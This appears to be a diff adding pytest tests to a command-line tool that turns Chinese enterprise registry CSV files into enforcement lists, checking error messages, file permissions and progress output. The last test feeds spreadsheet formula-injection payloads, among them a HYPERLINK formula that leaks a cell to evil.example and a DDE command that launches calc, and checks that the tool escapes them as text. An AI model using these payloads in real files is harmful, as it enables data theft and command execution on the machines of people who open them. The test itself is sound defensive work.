@@ -135,3 +135,219 @@ def test_load_into_embedded_store_is_versioned(tmp_path: Path, data_file, monkey
     assert [r.load_id for r in loads] == [2, 1]
     assert loads[0].source_name == "registry_small.csv"
     store.close()
+
+
+# ---------------------------------------------------------------- misuse, as a new user
+
+
+def _clean_failure(result, *needles: str) -> None:  # noqa: ANN001
+    """Exit code 2, a message naming what was wrong, and no traceback."""
+    assert result.exit_code == 2, result.output
+    assert isinstance(result.exception, SystemExit), repr(result.exception)
+    assert "Traceback" not in result.output
+    for needle in needles:
+        assert needle in result.output, (needle, result.output)
+
+
+@pytest.mark.parametrize("n", [1, 5, 10])
+def test_sample_small_sizes(tmp_path: Path, n: int) -> None:
+    out = tmp_path / f"s{n}.csv"
+    result = runner.invoke(app, ["sample", "-n", str(n), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert len(pd.read_csv(out)) == n
+
+
+@pytest.mark.parametrize("n", ["0", "-5", "x"])
+def test_sample_rejects_bad_sizes(tmp_path: Path, n: str) -> None:
+    result = runner.invoke(app, ["sample", "-n", n, "--out", str(tmp_path / "s.csv")])
+    _clean_failure(result, "-n")
+    assert not (tmp_path / "s.csv").exists()
+
+
+def test_sample_rejects_folder_and_negative_seed(tmp_path: Path) -> None:
+    _clean_failure(runner.invoke(app, ["sample", "--out", str(tmp_path)]), "folder")
+    _clean_failure(runner.invoke(app, ["sample", "--seed", "-1", "--out",
+                                       str(tmp_path / "s.csv")]), "--seed")
+
+
+def test_run_out_naming_an_existing_file(tmp_path: Path) -> None:
+    target = tmp_path / "afile"
+    target.write_text("keep me", encoding="utf-8")
+    _clean_failure(runner.invoke(app, ["run", "--out", str(target), "--no-map"]),
+                   "--out", "is a file")
+    assert target.read_text(encoding="utf-8") == "keep me"
+
+
+def test_run_binary_registry(tmp_path: Path) -> None:
+    nul = tmp_path / "nul.csv"
+    nul.write_bytes(b"\x00" * 20_000)
+    result = runner.invoke(app, ["run", str(nul), "--out", str(tmp_path / "o")])
+    _clean_failure(result, "binary file")
+    assert len(result.output) < 800 and not (tmp_path / "o").exists()
+
+
+def test_run_header_only_registry(tmp_path: Path) -> None:
+    src = tmp_path / "hdr.csv"
+    src.write_text("企业名称,行业,地址\n", encoding="utf-8")
+    result = runner.invoke(app, ["run", str(src), "--out", str(tmp_path / "o"), "--no-map"])
+    _clean_failure(result, "no data rows", "hdr.csv")
+
+
+def test_run_registry_is_a_folder(tmp_path: Path) -> None:
+    _clean_failure(runner.invoke(app, ["run", str(tmp_path), "--out", str(tmp_path / "o")]),
+                   "is a folder")
+
+
+def test_run_with_every_row_rejected_warns(tmp_path: Path) -> None:
+    src = tmp_path / "bad.csv"
+    src.write_text("企业名称,行业,地址\n某厂,化工,汕头市\n某厂二,电镀,汕头市\n", encoding="utf-8")
+    result = runner.invoke(app, ["run", str(src), "--out", str(tmp_path / "o"), "--no-map"])
+    assert result.exit_code == 0, result.output
+    assert "warning" in result.output and "rejected_rows.csv" in result.output
+    assert len(pd.read_csv(tmp_path / "o" / "rejected_rows.csv")) == 2
+
+
+def test_run_summary_lists_verdicts_strongest_first_in_chinese(tmp_path: Path, data_file) -> None:
+    from layers.catalog import read_data_toml
+
+    verdicts = read_data_toml("rules.toml")["verdicts"]  # the catalog file is the oracle
+    order = sorted(verdicts, key=lambda v: verdicts[v]["rank"])
+    result = runner.invoke(app, ["run", str(data_file("registry_small.csv")),
+                                 "--out", str(tmp_path / "o"), "--no-map"])
+    assert result.exit_code == 0, result.output
+    positions = [result.output.index(f"{verdicts[v]['label_zh']} ({v})") for v in order]
+    assert positions == sorted(positions)
+
+
+def test_verbose_lines_speak_to_the_user(tmp_path: Path, data_file) -> None:
+    result = runner.invoke(app, ["-v", "run", str(data_file("registry_small.csv")),
+                                 "--out", str(tmp_path / "o"), "--no-map"])
+    assert result.exit_code == 0, result.output
+    for stage in ("读取名录", "定位", "空间归属", "规则判定", "enforcement_list.xlsx"):
+        assert stage in result.output, stage
+    assert "INFO:" not in result.output and "geo.ingest" not in result.output
+
+
+def test_quiet_progress_when_not_a_terminal(tmp_path: Path, data_file) -> None:
+    result = runner.invoke(app, ["run", str(data_file("registry_small.csv")),
+                                 "--out", str(tmp_path / "o"), "--no-map"])
+    assert result.exit_code == 0 and "读取名录" not in result.output
+
+
+def test_live_progress_shows_each_stage_with_counts() -> None:
+    import io
+
+    from rich.console import Console
+
+    from api.cli import StageProgress
+
+    buf = io.StringIO()
+    term = Console(file=buf, force_terminal=True, width=120)
+    with StageProgress(live=True, out=term) as step:
+        step("read")
+        step("read", 200_000, done=True)
+        step("xlsx", 198_320)
+        step("xlsx", 198_320, done=True)
+    text = buf.getvalue()
+    assert "读取名录" in text and "200,000" in text and "enforcement_list.xlsx" in text
+    assert "198,320" in text
+
+
+def test_help_has_no_type_noise() -> None:
+    result = runner.invoke(app, ["--help"])
+    assert result.exit_code == 0
+    assert "<bool>" not in result.output and "-v, --verbose" in result.output
+    assert "<bool>" not in runner.invoke(app, ["run", "--help"]).output
+
+
+@pytest.mark.parametrize("cell", ["0", "-3", "nan"])
+def test_raster_cell_errors_name_the_option(tmp_path: Path, cell: str) -> None:
+    result = runner.invoke(app, ["raster", "density", "--cell", cell,
+                                 "--out", str(tmp_path / "d.tif")])
+    _clean_failure(result, "--cell")
+    assert "cell_m" not in result.output
+
+
+def test_raster_too_fine_a_cell_names_the_option(tmp_path: Path, data_file) -> None:
+    result = runner.invoke(app, ["raster", "density", str(data_file("registry_small.csv")),
+                                 "--cell", "0.5", "--out", str(tmp_path / "d.tif")])
+    _clean_failure(result)
+    assert "cell_m" not in result.output and not (tmp_path / "d.tif").exists()
+
+
+def test_locate_misuse(tmp_path: Path) -> None:
+    _clean_failure(runner.invoke(app, ["locate", "116.4", "23.3", "--crs", "Web墨卡托"]),
+                   "Web墨卡托")
+    _clean_failure(runner.invoke(app, ["locate", "116.4", "23.3", "--as-of", "2019-02-30"]),
+                   "YYYY-MM-DD")
+    _clean_failure(runner.invoke(app, ["locate", "nan", "23.3"]), "finite")
+
+
+# ---------------------------------------------------------------- real processes
+
+
+def _basinwatch(*args: str, cwd: Path, umask: str = "022"):  # noqa: ANN202
+    import shutil
+    import subprocess
+    import sys
+
+    exe = shutil.which("basinwatch", path=str(Path(sys.executable).parent))
+    assert exe, "the basinwatch console script is installed in this environment"
+    quoted = " ".join(f"'{a}'" for a in args)
+    return subprocess.run(["sh", "-c", f"umask {umask} && '{exe}' {quoted}"], cwd=cwd,
+                          capture_output=True, text=True, timeout=300)
+
+
+@pytest.mark.parametrize("umask, mode", [("022", 0o644), ("027", 0o640)])
+def test_sample_files_follow_the_umask(tmp_path: Path, umask: str, mode: int) -> None:
+    proc = _basinwatch("sample", "-n", "20", "--out", "s.csv", cwd=tmp_path, umask=umask)
+    assert proc.returncode == 0, proc.stderr
+    assert (tmp_path / "s.csv").stat().st_mode & 0o777 == mode
+
+
+def test_real_process_misuse_prints_messages_not_tracebacks(tmp_path: Path) -> None:
+    (tmp_path / "nul.csv").write_bytes(b"\x00" * 5000)
+    for args, needle in ((("sample", "-n", "0"), "-n"),
+                         (("run", "nul.csv", "--no-map"), "binary file")):
+        proc = _basinwatch(*args, cwd=tmp_path)
+        assert proc.returncode == 2, proc.stderr
+        assert needle in proc.stderr and "Traceback" not in proc.stderr + proc.stdout
+
+
+@pytest.mark.slow
+def test_run_outputs_follow_the_umask(tmp_path: Path) -> None:
+    proc = _basinwatch("run", "--out", "o", cwd=tmp_path, umask="027")
+    assert proc.returncode == 0, proc.stderr
+    modes = {p.name: p.stat().st_mode & 0o777 for p in (tmp_path / "o").iterdir()}
+    assert set(modes.values()) == {0o640}, modes
+    assert "map.html" in modes and "enforcement_list.provenance.json" in modes
+
+
+def test_run_outputs_neutralise_formulas(tmp_path: Path) -> None:
+    """Issue 14 item 2 on the CLI path: registry names that are formulas stay text."""
+    import csv
+    import io
+
+    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0",
+             "+1+1", "@SUM(1,1)"]
+    lines = ["企业名称,行业,地址,经度,纬度"]
+    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",印染,汕头市潮南区陈店镇,116.43,23.25'
+              for n in names]
+    lines.append('"-2+3",电镀,汕头市潮南区陈店镇,116.43,23.25')  # rejected: unknown industry
+    src = tmp_path / "evil.csv"
+    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = tmp_path / "o"
+    result = runner.invoke(app, ["run", str(src), "--out", str(out), "--no-map"])
+    assert result.exit_code == 0, result.output
+    book = openpyxl.load_workbook(out / "enforcement_list.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
+             if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value} == {
+        "'" + names[0]}
+    for name in ("enforcement_list.csv", "rejected_rows.csv"):
+        text = (out / name).read_text(encoding="utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text, newline="")))
+        assert all(not r["name"].startswith(("=", "+", "-", "@")) for r in rows), name
+    rejected = pd.read_csv(out / "rejected_rows.csv", dtype=str)
+    assert rejected["name"].tolist() == ["'-2+3"]
